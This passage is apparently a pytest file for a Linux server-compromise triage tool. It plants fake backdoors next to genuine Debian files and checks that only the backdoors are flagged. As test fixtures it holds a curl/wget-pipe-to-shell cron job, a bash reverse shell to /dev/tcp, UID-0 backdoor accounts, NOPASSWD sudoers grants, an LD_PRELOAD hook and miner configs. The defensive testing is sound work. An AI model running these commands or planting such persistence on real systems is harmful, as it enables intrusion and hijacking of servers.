"""System checks over small old roots built like Debian's: each test plants the bad thing
next to its genuine look-alike and proves the first is found and the second is not."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import os
import subprocess
from collections.abc import Iterable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vpsrescue.triage import system
from vpsrescue.triage.model import Context, Finding, Site
from vpsrescue.triage.quarantine import judged
from vpsrescue.triage.system import accounts, commands, logs, persistence
from vpsrescue.triage.system import files as system_files
from vpsrescue.triage.system import php as system_php

from ..oldroot import OldRoot
from .restore_bundle import make_bundle

pytestmark = pytest.mark.unit

# Debian 11 excerpts (real file formats, shortened)
PASSWD = """\
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
games:x:5:60:games:/usr/games:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
mysql:x:101:101:MySQL Server,,,:/nonexistent:/bin/false
postgres:x:106:110:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash
alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash
"""
HASH = "$6$Qx1nSalt$4m0Ck3dHashValueThatMustNeverBePrintedAnywhere1234567890abcdefgh"
SHADOW = f"""\
root:{HASH.replace('Qx1n', 'R00t')}:19000:0:99999:7:::
daemon:*:19000:0:99999:7:::
sync:*:19000:0:99999:7:::
games:*:19000:0:99999:7:::
www-data:*:19000:0:99999:7:::
nobody:*:19000:0:99999:7:::
mysql:!:19000:0:99999:7:::
alice:{HASH.replace('Qx1n', 'Al1c')}:19000:0:99999:7:::
"""
SUDOERS = """\
#
# This file MUST be edited with the 'visudo' command as root.
Defaults\tenv_reset
Defaults\tmail_badpass
Defaults\tsecure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
Host_Alias	ANYWHERE = ALL
# User privilege specification
root\tALL=(ALL:ALL) ALL
# Allow members of group sudo to execute any command
%sudo\tALL=(ALL:ALL) ALL
@includedir /etc/sudoers.d
"""
CRONTAB = """\
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
"""
CRON_PHP = ("09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d "
            "/run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n")
SSH_UNIT = """\
[Unit]
Description=OpenBSD Secure Shell server
[Service]
ExecStartPre=/usr/sbin/sshd -t
ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
[Install]
WantedBy=multi-user.target
Alias=sshd.service
"""
SKEL_PROFILE = """\
# ~/.profile: executed by the command interpreter for login shells.
if [ -n "$BASH_VERSION" ]; then
    if [ -f "$HOME/.bashrc" ]; then
\t. "$HOME/.bashrc"
    fi
fi
if [ -d "$HOME/bin" ] ; then
    PATH="$HOME/bin:$PATH"
fi
"""
SKEL_BASHRC = """\
# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
if [ -x /usr/bin/dircolors ]; then
    alias ls='ls --color=auto'
fi
"""
ELF = Path("/bin/true").read_bytes()  # a real ELF binary (never executed here)


def by_path(findings: Iterable[Finding]) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in findings:
        out.setdefault(f.path, []).append(f)
    return out


def serious(findings: Iterable[Finding]) -> list[Finding]:
    return [f for f in findings if f.severity != "info"]


# --------------------------------------------------------------------------- accounts

def test_accounts_extra_uid0_and_shells_found_hashes_never_shown(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.passwd(PASSWD + "sysbackup:x:0:0:System Backup:/var/backups/.sys:"
             "/bin/bash\nbackup:x:34:34:backup:/var/backups:/bin/sh\n"
             f"oldstyle:{HASH}:0:0::/root:/bin/sh\n")
    t.file("/etc/shadow", SHADOW + f"sysbackup:{HASH}:19000:0:99999:7:::\n"
           "backup:*:19000:0:99999:7:::\n"
           f"www-data:{HASH.replace('Qx1n', 'WwWd')}:19000::::::\n")
    # www-data now appears twice in shadow: the later line (with a hash) wins
    found = judged(accounts.check_accounts(t.ctx()), [])
    text = json.dumps([f.to_json() for f in found])
    assert "4m0Ck3dHash" not in text and "$6$" not in text
    uid0 = [f for f in found if f.kind == "uid0_account"]
    assert {f.extra["user"] for f in uid0} == {"sysbackup", "oldstyle"}
    sb = next(f for f in uid0 if f.extra["user"] == "sysbackup")
    assert sb.severity == "critical" and sb.evidence.startswith("sysbackup:x:0:0:")
    assert sb.extra["has_password"] is True and "'sysbackup'" in sb.title
    assert next(f for f in uid0 if f.extra["user"] == "oldstyle").evidence.startswith(
        "oldstyle:<hash>:0:0")
    others = {(f.extra.get("user"), f.severity) for f in found if f.kind == "account"}
    assert ("backup", "high") in others  # a system account given /bin/sh
    assert ("www-data", "high") in others  # a system account with a password
    assert ("alice", "info") in others
    flagged = {f.extra.get("user") for f in serious(found)}
    assert not flagged & {"root", "daemon", "sync", "games", "mysql", "nobody", "alice",
                          "postgres"}


def test_accounts_genuine_debian_is_quiet(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.passwd(PASSWD)
    t.file("/etc/shadow", SHADOW)
    assert serious(accounts.check_accounts(t.ctx())) == []


# --------------------------------------------------------------------------- sudoers

def test_sudoers_nopasswd_and_all_grants_found_defaults_quiet(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.file("/etc/sudoers", SUDOERS)
    t.file("/etc/sudoers.d/README", "#\n# Files in /etc/sudoers.d are parsed...\n"
           "# deploy ALL=(ALL) NOPASSWD: ALL\n")
    assert judged(accounts.check_sudoers(t.ctx()), []) == []
    t.file("/etc/sudoers.d/90-cloud", "sysbackup ALL=(ALL) \\\n    NOPASSWD: ALL\n"
           "%www ALL=(root) NOPASSWD: /usr/sbin/service apache2 reload\n"
           "deploy ALL=(ALL:ALL) ALL\n@include /etc/sudo.local\n")
    t.file("/etc/sudo.local", "www-data ALL=NOPASSWD:ALL\n")
    found = judged(accounts.check_sudoers(t.ctx()), [])
    got = {(f.extra["who"], f.severity, f.path) for f in found}
    assert got == {("sysbackup", "critical", "/etc/sudoers.d/90-cloud"),
                   ("%www", "high", "/etc/sudoers.d/90-cloud"),
                   ("deploy", "high", "/etc/sudoers.d/90-cloud"),
                   ("www-data", "critical", "/etc/sudo.local")}
    assert all(f.kind == "sudoers" for f in found)


# --------------------------------------------------------------------------- ssh

def _keygen(tmp_path: Path, comment: str) -> str:
    key = tmp_path / f"k-{comment.replace('@', '_')}"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f",
                    str(key)], check=True)
    return Path(f"{key}.pub").read_text().strip()


def test_ssh_every_key_reported_with_fingerprint_and_options(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.passwd(PASSWD)
    admin = _keygen(tmp_path, "zhang@thinkpad")
    intruder = _keygen(tmp_path, "root@localhost")
    t.file("/root/.ssh/authorized_keys", f"# my laptop\n{admin}\n\n{intruder}\n")
    t.file("/home/alice/.ssh/authorized_keys2",
           f'command="/usr/bin/rsync --server",from="10.0.0.0/8,198.51.100.9" {admin}\n')
    t.file("/home/alice/.ssh/known_hosts", f"example.org {admin}\n")
    found = by_path(judged(accounts.check_ssh(t.ctx()), []))
    root_keys = found["/root/.ssh/authorized_keys"]
    assert [f.severity for f in root_keys] == ["high", "high"]
    assert intruder.split()[1] in root_keys[1].evidence and "root@localhost" in \
        root_keys[1].evidence
    oracle = subprocess.run(["ssh-keygen", "-lf", str(tmp_path / "k-root_localhost.pub")],
                            capture_output=True, text=True, check=True).stdout.split()[1]
    assert root_keys[1].extra["fingerprint"] == oracle
    (alice,) = found["/home/alice/.ssh/authorized_keys2"]
    assert alice.severity == "medium" and alice.extra["user"] == "alice"
    assert alice.extra["options"] == 'command="/usr/bin/rsync --server",from="10.0.0.0/8,' \
                                     '198.51.100.9"'
    assert not alice.quarantine
    assert set(found) == {"/root/.ssh/authorized_keys", "/home/alice/.ssh/authorized_keys2"}


def test_ssh_sshd_config_changes_found_debian_default_quiet(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.file("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n"
           "#PermitRootLogin prohibit-password\n#PasswordAuthentication yes\n"
           "#AuthorizedKeysFile     .ssh/authorized_keys .ssh/authorized_keys2\n"
           "ChallengeResponseAuthentication no\nUsePAM yes\nX11Forwarding yes\n")
    assert judged(accounts.check_ssh(t.ctx()), []) == []
    t.file("/etc/ssh/sshd_config.d/zz.conf", "PermitRootLogin yes\n"
           "PasswordAuthentication=yes\nAuthorizedKeysFile /etc/ssh/keys/%u\n")
    t.file("/etc/ssh/keys/root", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoYkpjqqDxGPy7dAfJ2"
           "sCdHa3FzR+x9VO1391XZCI/G hidden@key\n")
    found = judged(accounts.check_ssh(t.ctx()), [])
    kinds = sorted((f.kind, f.severity) for f in found)
    assert kinds == [("authorized_key", "high"), ("sshd_config", "low"),
                     ("sshd_config", "medium"), ("sshd_config", "medium")]
    assert next(f for f in found if f.kind == "authorized_key").path == "/etc/ssh/keys/root"


_OPTIONS = st.lists(st.sampled_from([
    'command="/usr/bin/rsync --server -vlogDtpre.iLsfxC . /srv/backup"',
    'from="198.51.100.0/24,!198.51.100.9"', "no-pty", "no-port-forwarding", "restrict",
    'environment="PATH=/bin:/usr/bin"', 'command="echo \\"hi there\\""']), max_size=3)


@settings(max_examples=60, deadline=None)
@given(options=_OPTIONS,
       ktype=st.sampled_from(["ssh-ed25519", "ssh-rsa", "ecdsa-sha2-nistp256",
                              "sk-ssh-ed25519@openssh.com"]),
       raw=st.binary(min_size=1, max_size=80),
       comment=st.text(st.characters(blacklist_categories=("Cc", "Zl", "Zp", "Cs")),
                       max_size=30))
def test_authorized_key_lines_parse_back(options: list[str], ktype: str, raw: bytes,
                                         comment: str) -> None:
    blob = base64.b64encode(raw).decode()
    opts = ",".join(options)
    line = f"{opts} {ktype} {blob} {comment}" if opts else f"{ktype} {blob} {comment}"
    assert accounts.parse_authorized_key(line) == (opts, ktype, blob, comment.strip())


# --------------------------------------------------------------------------- cron

def test_cron_fetch_and_unowned_found_packaged_quiet(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.debian_package("cron", {"/etc/crontab": CRONTAB,
                              "/etc/cron.d/.placeholder": "# DO NOT EDIT\n"},
                     conffiles=["/etc/crontab", "/etc/cron.d/.placeholder"])
    t.debian_package("php7.4-common", {"/etc/cron.d/php": CRON_PHP},
                     conffiles=["/etc/cron.d/php"])
    t.debian_package("logrotate", {"/etc/cron.daily/logrotate": "#!/bin/sh\n"
                                   "if [ -d /run/systemd/system ]; then\n    exit 0\nfi\n"
                                   "/usr/sbin/logrotate /etc/logrotate.conf\n"},
                     conffiles=["/etc/cron.daily/logrotate"])
    # packaged as shipped, though it names /tmp: trusted (md5sums, not a conffile)
    t.debian_package("sysstat", {"/etc/cron.daily/sysstat": "#!/bin/sh\nTMP=/tmp/sa.$$\n"})
    assert judged(persistence.check_cron(t.ctx()), []) == []
    t.file("/etc/cron.d/apache2-update", "# apache2 maintenance\n*/15 * * * * root (curl "
           "-fsSL http://203.0.113.66/u.sh || wget -q -O- http://203.0.113.66/u.sh) | sh\n")
    t.file("/etc/cron.d/backup", "30 2 * * * root /usr/local/bin/backup-db\n")
    t.file("/var/spool/cron/crontabs/www-data",
           "# DO NOT EDIT THIS FILE\n* * * * * echo Y3VybCBldmls | base64 -d | bash\n")
    t.file("/etc/cron.d/php", CRON_PHP + "# local\n")  # edited conffile, harmless
    t.file("/etc/cron.daily/sysstat", "#!/bin/sh\nTMP=/tmp/sa.$$\n/dev/shm/.s &\n")
    found = by_path(judged(persistence.check_cron(t.ctx()), []))
    (fetch,) = found["/etc/cron.d/apache2-update"]
    assert fetch.severity == "critical" and "http://203.0.113.66/u.sh" in fetch.evidence
    assert found["/etc/cron.d/backup"][0].severity == "medium"
    assert found["/var/spool/cron/crontabs/www-data"][0].severity in ("high", "critical")
    assert found["/etc/cron.d/php"][0].severity == "low"
    assert found["/etc/cron.daily/sysstat"][0].extra["package_owned"] is True
    assert set(found) == {"/etc/cron.daily/sysstat", "/etc/cron.d/apache2-update",
                          "/etc/cron.d/backup",
                          "/var/spool/cron/crontabs/www-data", "/etc/cron.d/php"}


@pytest.mark.parametrize("line,flagged", [
    ("* * * * * root wget -qO- http://evil.example/x | bash", True),
    ("* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", True),
    ("* * * * * root /dev/shm/.x/run", True),
    ("@reboot root /var/tmp/.X11-unix/kworkerd", True),
    ("0 3 * * * root cd / && run-parts --report /etc/cron.daily", False),
    ("0 3 * * * root test -x /usr/sbin/anacron || /usr/lib/php/sessionclean", False),
    ("0 4 * * * www-data php /var/www/site/wp-cron.php >/dev/null 2>&1", False),
])
def test_suspicious_command_lines(line: str, flagged: bool) -> None:
    assert (commands.suspicious(line) is not None) == flagged


# --------------------------------------------------------------------------- systemd

def test_systemd_unowned_unit_from_hidden_tmp_dir_found_packaged_quiet(tmp_path: Path
                                                                       ) -> None:
    t = OldRoot(tmp_path)
    t.debian_package("openssh-server", {"/lib/systemd/system/ssh.service": SSH_UNIT})
    t.link("/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service")
    t.link("/etc/systemd/system/multi-user.target.wants/ssh.service",
           "/lib/systemd/system/ssh.service")
    t.link("/etc/systemd/system/apt-daily.service", "/dev/null")  # masked
    t.debian_package("webmin", {"/usr/share/webmin/webmin.service": SSH_UNIT})
    t.link("/etc/systemd/system/webmin.service", "/usr/share/webmin/webmin.service")
    assert judged(persistence.check_systemd(t.ctx()), []) == []
    t.file("/opt/.cache/agent.service", SSH_UNIT)
    t.link("/etc/systemd/system/agent.service", "/opt/.cache/agent.service")
    t.file("/etc/systemd/system/kworkerd.service", "[Unit]\nDescription=Kernel worker\n"
           "[Service]\nExecStart=/var/tmp/.X11-unix/kworkerd -c /var/tmp/.X11-unix/c.json\n"
           "Restart=always\n[Install]\nWantedBy=multi-user.target\n")
    t.link("/etc/systemd/system/multi-user.target.wants/kworkerd.service",
           "/etc/systemd/system/kworkerd.service")
    t.file("/etc/systemd/system/backup.service", "[Service]\nType=oneshot\n"
           "ExecStart=/usr/local/bin/backup-db\n")
    found = by_path(judged(persistence.check_systemd(t.ctx()), []))
    (kw,) = found["/etc/systemd/system/kworkerd.service"]
    assert kw.severity == "critical" and kw.extra["enabled"] is True
    assert kw.evidence.startswith("ExecStart=/var/tmp/.X11-unix/kworkerd")
    (bk,) = found["/etc/systemd/system/backup.service"]
    assert bk.severity == "medium" and bk.extra["enabled"] is False
    (ag,) = found["/etc/systemd/system/agent.service"]
    assert ag.severity == "high" and "/opt/.cache/agent.service" in ag.evidence
    assert set(found) == {"/etc/systemd/system/kworkerd.service",
                          "/etc/systemd/system/backup.service",
                          "/etc/systemd/system/agent.service"}


# --------------------------------------------------------------------------- start-up

def test_startup_scripts_found_debian_defaults_quiet(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.passwd(PASSWD)
    t.debian_package("gawk", {"/etc/profile.d/gawk.sh": "gawkpath_default () {\n"
                              "\tunset AWKPATH\n}\n"}, conffiles=["/etc/profile.d/gawk.sh"])
    t.debian_package("cron", {"/etc/init.d/cron": "#!/bin/sh\n### BEGIN INIT INFO\n"})
    t.debian_package("bash", {"/etc/skel/.profile": SKEL_PROFILE,
                              "/etc/skel/.bashrc": SKEL_BASHRC})
    t.file("/root/.bashrc", SKEL_BASHRC)
    t.file("/home/alice/.profile", SKEL_PROFILE + 'if [ -d "$HOME/.local/bin" ] ; then\n'
           '    PATH="$HOME/.local/bin:$PATH"\nfi\n. "$HOME/.cargo/env"\n')
    t.file("/etc/rc.local", "#!/bin/sh -e\n# rc.local\n\nexit 0\n")
    assert judged(persistence.check_startup(t.ctx()), []) == []
    t.file("/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/agent &\nexit 0\n")
    t.file("/etc/init.d/kworker", "#!/bin/sh\n/var/tmp/.X11-unix/kworkerd &\n")
    t.file("/etc/profile.d/motd.sh", "curl -s http://203.0.113.66/m | sh\n")
    t.file("/root/.bashrc", SKEL_BASHRC + "export LD_PRELOAD=/usr/lib/libhide.so\n")
    t.file("/etc/profile.d/gawk.sh", "gawkpath_default () {\n\tunset AWKPATH\n}\n"
           "export AWKPATH=/usr/share/awk\n")
    found = by_path(judged(persistence.check_startup(t.ctx()), []))
    assert found["/etc/rc.local"][0].severity == "high"
    assert found["/etc/init.d/kworker"][0].severity == "high"
    assert found["/etc/profile.d/motd.sh"][0].severity == "critical"
    assert "was edited" in found["/etc/profile.d/gawk.sh"][0].title
    assert "LD_PRELOAD" in found["/root/.bashrc"][0].evidence
    assert set(found) == {"/etc/rc.local", "/etc/init.d/kworker", "/etc/profile.d/motd.sh",
                          "/root/.bashrc", "/etc/profile.d/gawk.sh"}


# --------------------------------------------------------------------------- ld.so

def test_ld_so_preload_file_and_unowned_library(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.debian_package("libc6", {"/usr/lib/x86_64-linux-gnu/libc.so.6": ELF})
    t.file("/etc/ld.so.preload", "# nothing\n\n")
    assert judged(persistence.check_ld_so_preload(t.ctx()), []) == []
    lib = "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2"
    t.file(lib, ELF)
    t.file("/etc/ld.so.preload", f"{lib}\n/usr/lib/x86_64-linux-gnu/libc.so.6\n")
    found = by_path(judged(persistence.check_ld_so_preload(t.ctx()), []))
    (pre,) = found["/etc/ld.so.preload"]
    # the policy: the preload file is the intruder's (judged critical), not a shared file
    assert pre.severity == "critical" and lib in pre.evidence and pre.quarantine
    (lf,) = found[lib]
    assert lf.kind == "ld_so_preload" and lf.quarantine
    assert set(found) == {"/etc/ld.so.preload", lib}  # the packaged libc is not accused


# --------------------------------------------------------------------------- suid

def test_suid_unowned_found_packaged_and_dirs_quiet(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.debian_package("passwd", {"/usr/bin/passwd": ELF})
    os.chmod(t.path("/usr/bin/passwd"), 0o4755)
    t.dir("/var/lib/transmission-daemon/downloads", mode=0o2775)
    assert judged(system_files.check_suid(t.ctx()), []) == []
    t.file("/usr/local/bin/.pwn", ELF, mode=0o4755)
    t.file("/var/www/site/tool", ELF, mode=0o2755)
    found = by_path(judged(system_files.check_suid(t.ctx()), []))
    assert found["/usr/local/bin/.pwn"][0].severity == "high"
    assert found["/var/www/site/tool"][0].evidence == "mode 2755"
    assert all(f.quarantine for fs in found.values() for f in fs)
    assert set(found) == {"/usr/local/bin/.pwn", "/var/www/site/tool"}


def test_suid_in_a_bundle_comes_from_the_manifest(tmp_path: Path) -> None:
    """files/ has setuid bits stripped; the manifest keeps the original mode."""
    b = make_bundle(tmp_path, [], tree={b"/var/www/site/tool": ELF,
                                        b"/var/www/site/index.php": b"<?php\n"},
                    modes={b"/var/www/site/tool": 0o4755}, triaged=False)
    assert not os.stat(b.files_dir / "var/www/site/tool").st_mode & 0o7111
    found = judged(system_files.check_suid(Context(b.files_dir)), [])
    assert [(f.path, f.evidence) for f in found] == [("/var/www/site/tool", "mode 4755")]


# --------------------------------------------------------------------------- tmp

def test_elf_and_miner_in_tmp_and_hidden_dirs(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.file("/tmp/notes.txt", "pools are closed on mondays\n")
    t.file("/tmp/composer.json", json.dumps({"require": {"php": ">=7.4"}}))
    t.file("/var/www/site/.git/config", "[core]\n\tbare = false\n")
    t.file("/var/www/site/wp-includes/js/x.js", "var pools = [];\n")
    t.file("/root/.cargo/bin/rustc", ELF)
    t.file("/var/www/site/wp-content/plugins/p/bin/helper", ELF)  # not hidden: not here
    sites = [Site(root="/var/www/site", content_dir="/var/www/site/wp-content")]
    quiet = serious(system_files.check_tmp(t.ctx(sites)))
    assert [(f.path, f.severity) for f in quiet] == [("/root/.cargo/bin/rustc", "low")]
    t.file("/var/tmp/.X11-unix/kworkerd", ELF)
    t.file("/var/tmp/.X11-unix/config.json", json.dumps(
        {"autosave": True, "pools": [{"url": "pool.example.com:4444", "user": "44AF"}]}))
    t.file("/dev/shm/.../m.conf", "url = stratum+tcp://198.51.100.3:3333\n")
    t.file("/root/.local/share/.m/c.json", '{"pools": [{"url": "198.51.100.3:3333"}]}')
    t.file("/var/www/site/wp-content/uploads/.cache/php-fpm", ELF)
    found = by_path(judged(system_files.check_tmp(t.ctx(sites)), sites))
    assert found["/var/tmp/.X11-unix/kworkerd"][0].kind == "elf_in_tmp"
    assert found["/var/www/site/wp-content/uploads/.cache/php-fpm"][0].severity == "critical"
    assert found["/var/tmp/.X11-unix/config.json"][0].kind == "miner"
    assert found["/dev/shm/.../m.conf"][0].kind == "miner"
    assert found["/root/.local/share/.m/c.json"][0].severity == "critical"
    # the policy: what is judged critical or high never comes back
    assert all(f.quarantine == (f.severity in ("critical", "high"))
               for fs in found.values() for f in fs)
    assert len(serious(f for fs in found.values() for f in fs)) == 6


# --------------------------------------------------------------------------- binaries

def test_modified_binaries_and_shadowing_commands(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    # usr-merged like the old disk: /bin -> usr/bin, packages list /bin/...
    t.link("/bin", "usr/bin")
    t.link("/lib", "usr/lib")
    sshd = ELF + b"\0openssh"
    t.file("/usr/bin/ls", ELF + b"\0ls")
    t.debian_package("coreutils", {"/bin/ls": ELF + b"\0ls"}, write=False)
    t.debian_package("openssh-server", {"/usr/sbin/sshd": sshd + b"PAM_BACKDOOR_PW"},
                     shipped={"/usr/sbin/sshd": sshd})
    t.debian_package("libpam-modules",
                     {"/lib/x86_64-linux-gnu/security/pam_unix.so": ELF + b"u"},
                     shipped={"/lib/x86_64-linux-gnu/security/pam_unix.so": ELF + b"pam"},
                     write=False)
    t.file("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", ELF + b"u")
    t.debian_package("mariadb-client-10.5", {"/usr/bin/mysqldump": ELF + b"\0dump"})
    t.file("/usr/local/bin/backup-db", "#!/bin/sh\nmysqldump --all-databases > /srv/b.sql\n",
           mode=0o755)
    t.file("/usr/local/bin/mysqldump", "#!/bin/sh\necho x >> /tmp/.log\nexec /usr/bin/"
           "mysqldump \"$@\"\n", mode=0o755)
    t.file("/usr/local/bin/README", "not a program\n", mode=0o644)
    t.file("/usr/local/sbin/ps", ELF, mode=0o644)  # as in a bundle's files/: no exec bits
    t.debian_package("procps", {"/bin/ps": ELF + b"\0ps"})
    t.file("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2", ELF)
    found = by_path(judged(system_files.check_binaries(t.ctx()), []))
    (ssh,) = found["/usr/sbin/sshd"]
    assert ssh.kind == "modified_binary" and ssh.severity == "critical"
    assert ssh.extra["package"] == "openssh-server"
    assert ssh.extra["expected_md5"] == hashlib.md5(sshd).hexdigest()
    assert ssh.extra["actual_md5"] == hashlib.md5(sshd + b"PAM_BACKDOOR_PW").hexdigest()
    assert found["/usr/lib/x86_64-linux-gnu/security/pam_unix.so"][0].extra["package"] == \
        "libpam-modules"
    (md,) = found["/usr/local/bin/mysqldump"]
    assert md.kind == "unowned_command" and md.severity == "high" and md.quarantine
    assert md.extra["shadows"] is True
    assert found["/usr/local/bin/backup-db"][0].severity == "low"
    assert found["/usr/local/sbin/ps"][0].extra["shadows"] is True
    assert found["/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2"][0].severity == "critical"
    assert set(found) == {"/usr/sbin/sshd", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
                          "/usr/local/bin/mysqldump", "/usr/local/bin/backup-db",
                          "/usr/local/sbin/ps",
                          "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2"}


# --------------------------------------------------------------------------- bittorrent

TRANSMISSION_DEFAULT = {"download-dir": "/var/lib/transmission-daemon/downloads",
                        "rpc-authentication-required": True, "rpc-bind-address": "0.0.0.0",
                        "rpc-enabled": True, "rpc-whitelist": "127.0.0.1",
                        "rpc-whitelist-enabled": True}


def test_bittorrent_client_open_rpc_and_large_downloads(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.debian_package("rsync", {"/usr/bin/rsync": ELF})
    t.file("/etc/transmission-daemon/settings.json", json.dumps(TRANSMISSION_DEFAULT))
    t.file("/var/www/site/wp-content/uploads/2020/01/intro.mp4", b"\0" * 4096)
    sites = [Site(root="/var/www/site", content_dir="/var/www/site/wp-content")]
    assert judged(system_files.check_bittorrent(t.ctx(sites)), sites) == []
    t.debian_package("transmission-daemon", {"/usr/bin/transmission-daemon": ELF},
                     version="3.00-1")
    t.link("/etc/systemd/system/multi-user.target.wants/transmission-daemon.service",
           "/lib/systemd/system/transmission-daemon.service")
    t.file("/etc/transmission-daemon/settings.json", json.dumps(
        TRANSMISSION_DEFAULT | {"rpc-whitelist-enabled": 0}, indent=4))
    t.file("/var/lib/transmission-daemon/.config/transmission-daemon/torrents/Movie.2008."
           "1080p.mkv.11d269c7a1f14916.torrent", b"d8:announce0:4:infod4:name3:abcee")
    for p in ("/srv/media/dl/Movie.2008.1080p.mkv", "/var/www/site/films/big.avi"):
        local = t.file(p, b"")
        os.truncate(local, 60 << 20)  # sparse: large without writing 60 MB
    t.file("/etc/transmission-daemon/settings.json", json.dumps(
        TRANSMISSION_DEFAULT | {"rpc-whitelist-enabled": 0, "download-dir": "/srv/media/dl"}))
    found = by_path(judged(system_files.check_bittorrent(t.ctx(sites)), sites))
    (inst,) = found["/var/lib/dpkg/info/transmission-daemon.list"]
    assert inst.extra["enabled"] is True and "/usr/bin/transmission-daemon" in inst.evidence
    (rpc,) = found["/etc/transmission-daemon/settings.json"]
    assert '"rpc-whitelist-enabled": 0' in rpc.evidence and "0.0.0.0" in rpc.evidence
    (mkv,) = found["/srv/media/dl/Movie.2008.1080p.mkv"]
    assert mkv.extra["size"] == 60 << 20 and mkv.quarantine
    (avi,) = found["/var/www/site/films/big.avi"]
    # the policy: a large download is a payload, in a web root too (once restored)
    assert avi.quarantine and "web root" in avi.title
    (tor,) = [f for fs in found.values() for f in fs if f.path.endswith(".torrent")]
    assert tor.severity == "info"
    assert len(found) == 5


# --------------------------------------------------------------------------- logs

def test_logs_root_logins_per_ip_upload_posts_and_history(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.passwd(PASSWD)
    t.file("/var/log/auth.log", "Mar 11 03:10:01 vps sshd[2100]: Failed password for root "
           "from 198.51.100.200 port 1 ssh2\nMar 11 03:12:05 vps sshd[2112]: Accepted "
           "password for root from 203.0.113.66 port 40084 ssh2\nMar 11 04:00:00 vps sshd"
           "[2200]: Accepted publickey for alice from 198.51.100.20 port 2 ssh2\n")
    with gzip.open(t.root / "var/log/auth.log.2.gz", "wt") as gz:
        gz.write("Mar  1 10:00:00 vps sshd[10]: Accepted publickey for root from "
                 "198.51.100.7 port 5 ssh2: ED25519 SHA256:abc\n"
                 "Mar  2 10:00:00 vps sshd[11]: Accepted password for root from "
                 "203.0.113.66 port 6 ssh2\n")
    t.file("/var/log/apache2/access.log", '198.51.100.20 - - [11/Mar/2024:03:00:00 +0000] '
           '"POST /wp-admin/admin-ajax.php HTTP/1.1" 200 5 "-" "M"\n198.51.100.20 - - '
           '[11/Mar/2024:03:00:01 +0000] "GET /wp-content/uploads/2023/11/wp-cache.php '
           'HTTP/1.1" 404 5 "-" "M"\n')
    with gzip.open(t.root / "var/log/apache2/blog-access.log.2.gz", "wt") as gz:
        for i in range(3):
            gz.write(f'203.0.113.66 - - [11/Mar/2024:03:1{i}:00 +0800] "POST /wp-content/'
                     f'uploads/2023/11/wp-cache.php?c=id HTTP/1.1" 200 137 "-" "M"\n')
        gz.write('203.0.113.66 - - [12/Mar/2024:01:00:00 +0800] "POST /blog/wp-content/'
                 'uploads/x.PHP5 HTTP/1.1" 200 1 "-" "M"\n'
                 '203.0.113.66 - - [12/Mar/2024:01:00:00 +0800] "POST /wp-content/'
                 'uploads/photo.php.jpg HTTP/1.1" 200 1 "-" "M"\n')
    t.file("/home/alice/.bash_history", "ls\n")
    t.link("/root/.bash_history", "/dev/null")
    found = judged(logs.check_logs(t.ctx()), [])
    ips = {f.extra["ip"]: f for f in found if "ip" in f.extra}
    assert set(ips) == {"203.0.113.66", "198.51.100.7"}
    assert ips["203.0.113.66"].extra["count"] == 2
    assert "Accepted password for root from 203.0.113.66" in ips["203.0.113.66"].evidence
    posts = {f.extra["url"]: f for f in found if "url" in f.extra}
    assert set(posts) == {"/wp-content/uploads/2023/11/wp-cache.php",
                          "/blog/wp-content/uploads/x.PHP5"}
    post = posts["/wp-content/uploads/2023/11/wp-cache.php"]
    assert post.severity == "high" and post.extra["count"] == 3
    (hist,) = [f for f in found if f.path.endswith(".bash_history")]
    assert hist.path == "/root/.bash_history" and hist.extra["symlink_to"] == "/dev/null"
    assert len(found) == 5


# --------------------------------------------------------------------------- hosts/apache

def test_hosts_and_apache_modules(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    t.file("/etc/hosts", "127.0.0.1\tlocalhost\n127.0.1.1\tvps-blog\n"
           "127.0.0.1\tblog.example.org\n::1 localhost ip6-localhost\n")
    t.debian_package("apache2", {
        "/usr/lib/apache2/modules/mod_rewrite.so": ELF,
        "/etc/apache2/mods-available/rewrite.load":
